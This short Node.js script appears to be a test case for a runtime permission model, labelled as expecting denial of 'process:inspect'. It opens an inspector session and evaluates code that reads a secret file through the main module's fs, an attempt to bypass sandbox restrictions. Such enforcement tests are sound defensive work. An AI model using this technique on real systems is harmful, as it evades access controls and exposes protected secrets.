// Evaluates in an inspector session of its own, with the console's own require.
// denied: process:inspect
const fs = require('node:fs');
const lab = JSON.parse(process.argv[2]);
const { Session } = require('node:inspector');
const session = new Session();
session.connect();
session.post('Runtime.evaluate', { expression: `process.mainModule.require('fs').readFileSync(${JSON.stringify(lab.secret)}, 'utf8')`, includeCommandLineAPI: true }, (error, { result }) => console.log(result.value));
